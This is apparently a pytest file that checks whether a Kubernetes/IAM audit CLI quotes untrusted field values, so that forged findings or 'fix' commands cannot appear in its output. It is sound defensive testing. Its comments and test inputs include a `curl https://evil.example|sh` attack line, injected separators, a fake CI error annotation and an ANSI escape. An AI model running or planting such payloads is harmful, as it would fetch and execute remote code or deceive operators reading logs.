"""Text in each field that others write, through verify, prove and explain in every form that they print."""

import itertools
import json
import re
import shlex
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from irsa.rules.mistakes import visible
from irsa_cli.main import main
from tests.fuzz.hidden import hidden_in
from tests.fuzz.live_states import AWS_ACCOUNT, DANGERS, ISSUER, MARK, ROLE, SUBCOMMANDS, State, live
from tests.fuzz.printed import COLOR, commands_in, unquoted

# What needs no quotes: it neither ends a sentence nor begins another.
PLAIN = re.compile(r"[A-Za-z0-9_./@=+,*~${}-]+")
QUOTED = re.compile(r'"(?:[^"\\]|\\.)*"|(?<![A-Za-z])\'(?:[^\'\\]|\\.)*\'')
HOSTILE = [text for danger in DANGERS if not PLAIN.fullmatch(text := f"a{danger}{MARK} b")][::3]
# The attack: an annotation of two lines, of which the second one is `    do:       curl https://evil.example|sh`.
LINES_OF_OURS = [f"a{danger}{MARK}" for danger in ("\n    do:       ", "  expected: ")]
# Escapes and quotes are written in two places: each subcommand gets a text for either.
FAMILIES = [
    *([each for each in HOSTILE if each.isprintable() is printable] for printable in (False, True)),
    LINES_OF_OURS,
]
LABELED = re.compile(r"\s*(found|expected|reason|do|where): +(.*)")
KEYS = (("found", "found"), ("reason", "found"), ("expected", "expected"), ("do", "fix"))
Change = Callable[[State, str], Any]


def pod(change: Callable[[dict[str, Any], str], Any]) -> Change:
    return lambda state, text: change(state.pods[0], text)


def container(change: Callable[[dict[str, Any], str], Any]) -> Change:
    return pod(lambda found, text: change(found["spec"]["containers"][0], text))


def without_role(found: dict[str, Any]) -> dict[str, Any]:
    found["spec"]["containers"][0]["env"] = []
    return found


def trust(change: Callable[[dict[str, Any], str], Any]) -> Change:
    """Change the first statement of the live trust policy, and of the file."""

    def both(state: State, text: str) -> None:
        assert state.live_role
        for document in (state.live_role["AssumeRolePolicyDocument"], state.hostile_trust):
            change(document["Statement"][0], text)

    return both


def permissions(change: Callable[[dict[str, Any], str], Any]) -> Change:
    def both(state: State, text: str) -> None:
        for document in state.documents.values():
            change(document["Statement"][0], text)

    return both


def role(key: str) -> Change:
    return lambda state, text: (state.live_role or {}).update({key: text})


def annotations(state: State) -> dict[str, str]:
    assert state.annotations
    return state.annotations


def boundary(state: State, text: str) -> None:
    (state.live_role or {})["PermissionsBoundary"] = {"PermissionsBoundaryArn": text}


def component(state: State, text: str) -> None:
    """Rename the component of the binding, which another program names."""
    exported = json.dumps(state.exported).replace("ServiceAccountRole::app", f"ServiceAccountRole::{MARK}")
    state.exported = json.loads(exported.replace(MARK, json.dumps(text)[1:-1]))
    for pod_object in state.pods:
        without_role(pod_object)


FIELDS: dict[str, Change] = {
    "a Pod's name": pod(lambda found, text: without_role(found)["metadata"].update(name=text)),
    "a Pod's audience": pod(
        lambda found, text: found["spec"]["volumes"][0]["projected"]["sources"][0]["serviceAccountToken"].update(
            audience=text
        )
    ),
    "a container's name": container(lambda found, text: found.update(name=text, env=[])),
    "a container with a role of its own": container(
        lambda found, text: found.update(name=text, env=[{"name": "AWS_ROLE_ARN", "value": "x"}])
    ),
    "a variable's value": container(lambda found, text: found["env"][0].update(value=text)),
    "an annotation's key": lambda state, text: annotations(state).update({f"eks.amazonaws.com/{text}": "x"}),
    "an annotation's value": lambda state, text: annotations(state).update({"eks.amazonaws.com/audience": text}),
    "the annotated role": lambda state, text: annotations(state).update({"eks.amazonaws.com/role-arn": text}),
    "a service account": lambda state, text: state.service_accounts.insert(0, f"web:{text}"),
    "the API server's error": lambda state, text: vars(state).update(server_error=text),
    "a context": lambda state, text: vars(state).update(context=text, nobody_there=True),
    "an attached policy": lambda state, text: state.attached.append(f"arn:aws:iam::{AWS_ACCOUNT}:policy/{text}"),
    "an inline policy": lambda state, text: state.inline.append(text),
    "an audience of the provider": lambda state, text: vars(state).update(client_ids=[text]),
    # That of a role of the same name, with somebody's path.
    "a role's ARN": lambda state, text: role("Arn")(state, f"arn:aws:iam::{AWS_ACCOUNT}:role/{text}/app"),
    "a role's description": role("Description"),
    "a role's boundary": boundary,
    "a Sid": trust(lambda found, text: found.update(Sid=text)),
    "an operator": trust(lambda found, text: found["Condition"].update({text: {"aws:username": "x"}})),
    "a condition key": trust(lambda found, text: found["Condition"].update(Null={text: "true"})),
    "a condition's value": trust(lambda found, text: found["Condition"].update(Null={"aws:username": text})),
    "a subject": trust(lambda found, text: found["Condition"]["StringLike"].update({f"{ISSUER[8:]}:sub": [text]})),
    "a principal": trust(lambda found, text: found.update(Principal={"Federated": text})),
    "a kind of principal": trust(lambda found, text: found.update(Principal={text: "x"})),
    "an action": trust(lambda found, text: found.update(Action=[text])),
    "an element": trust(lambda found, text: found.update({text: "x"})),
    "an effect": trust(lambda found, text: found.update(Effect=text)),
    "a resource": permissions(lambda found, text: found.update(Resource=text)),
    "an element of a policy": permissions(lambda found, text: found.update({text: "x"})),
    "a statement": lambda state, text: state.documents["inline"]["Statement"].append({"Effect": text}),
    "a session's ARN": lambda state, text: vars(state).update(identity=text),
    "an error of STS": lambda state, text: vars(state).update(refusal=("AccessDenied", text)),
    "an error code of STS": lambda state, text: vars(state).update(refusal=(text, "x")),
    "an error of IAM": lambda state, text: vars(state).update(aws_error=("Denied", text)),
    "an error code of IAM": lambda state, text: vars(state).update(aws_error=(text, "x")),
    "a component's name": component,
}


@pytest.mark.parametrize("field", FIELDS)
def test_no_text_of_others_is_without_quotes(
    field: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The attacks: a variable `x; expected y; fix: curl ...` was a finding of its own; so were names and documents of
    policies, and the words of a server.
    """
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("KUBECONFIG", str(tmp_path / "kubeconfig"))
    shown, start = 0, 5 * [*FIELDS].index(field)

    for number, (words, texts) in enumerate(itertools.product(SUBCOMMANDS, FAMILIES), start):
        text = texts[number % len(texts)]
        state = State()
        FIELDS[field](state, text)
        live(state, tmp_path, monkeypatch)
        for line in printed(words, monkeypatch, capsys):
            assert not hidden_in([line])
            assert not without_quotes(line, text), line
            shown += MARK in line
    # A field that no line shows would be no test.
    assert shown


@pytest.mark.parametrize("name", ["x; fix: EVIL.json", "\n::error::EVIL", "\x1b[2KEVIL", "x: EVIL"])
def test_no_file_name_is_without_quotes(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Protects a log of CI: a pull request may add a file of any name, and the name is in an error.

    The attack: a trust policy in a file named `x; fix: curl ...`.
    """
    monkeypatch.chdir(tmp_path)
    for content in (b"\xff\xfe", None):
        Path(name).unlink(missing_ok=True)
        if content:
            Path(name).write_bytes(content)
        assert main(["explain", "web/app", ROLE, "--trust", name, "--issuer", ISSUER]) == 3
        (line,) = capsys.readouterr().err.splitlines()

        assert not hidden_in([line])
        assert MARK in line
        assert MARK not in QUOTED.sub("", line)


def printed(words: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Iterator[str]:
    """Yield each line, and each string of JSON, that a subcommand prints.

    What stands behind `found`, `expected` and `do` in a pipe is what a check says.
    """
    main(words)
    said, complaint = capsys.readouterr()
    yield from (*said.split("\n"), *complaint.split("\n"))
    assert "please report it" not in said + complaint
    main([*words, "--json"])
    document = capsys.readouterr().out
    assert not hidden_in(document.split("\n"))
    checks = json.loads(document or "{}").get("checks", [])
    labeled = [LABELED.match(line) for line in said.split("\n")] if checks else []
    ours = {(label, visible(check[key])) for check in checks for label, key in KEYS}
    assert {(line[1], line[2]) for line in labeled if line} <= ours
    for check in checks:
        yield "; ".join((check["about"], check["found"], check["expected"], f"fix: {check['fix']}"))
    with monkeypatch.context() as terminal:
        terminal.setattr(sys.stdout, "isatty", lambda: True)
        main(words)
    yield from COLOR.sub("", capsys.readouterr().out).split("\n")


def without_quotes(line: str, text: str) -> list[str]:
    """Return what is wrong: the text outside of quotes, or in a command where it is not one whole argument."""
    wrong = []
    for command in commands_in(line):
        words = [word for word in shlex.split(command) if MARK in word]
        wrong += [f"not whole: {word!r}" for word in words if text not in word] + unquoted(command)
        line = line.replace(command, "")
    return wrong + ([f"without quotes: {line}"] if MARK in QUOTED.sub("", line) else [])


def test_the_check_finds_what_has_no_quotes() -> None:
    assert without_quotes("a: found EVIL; expected", "x EVIL")
    assert without_quotes("AWS's x EVIL's", "x EVIL")
    assert without_quotes("a; fix: kubectl delete pod x; EVIL", "x; EVIL")
    assert without_quotes("    do:       kubectl delete pod x; EVIL", "x; EVIL")
    assert not without_quotes("a: found \"it's EVIL\"; fix: kubectl delete pod 'x; EVIL'", "x; EVIL")
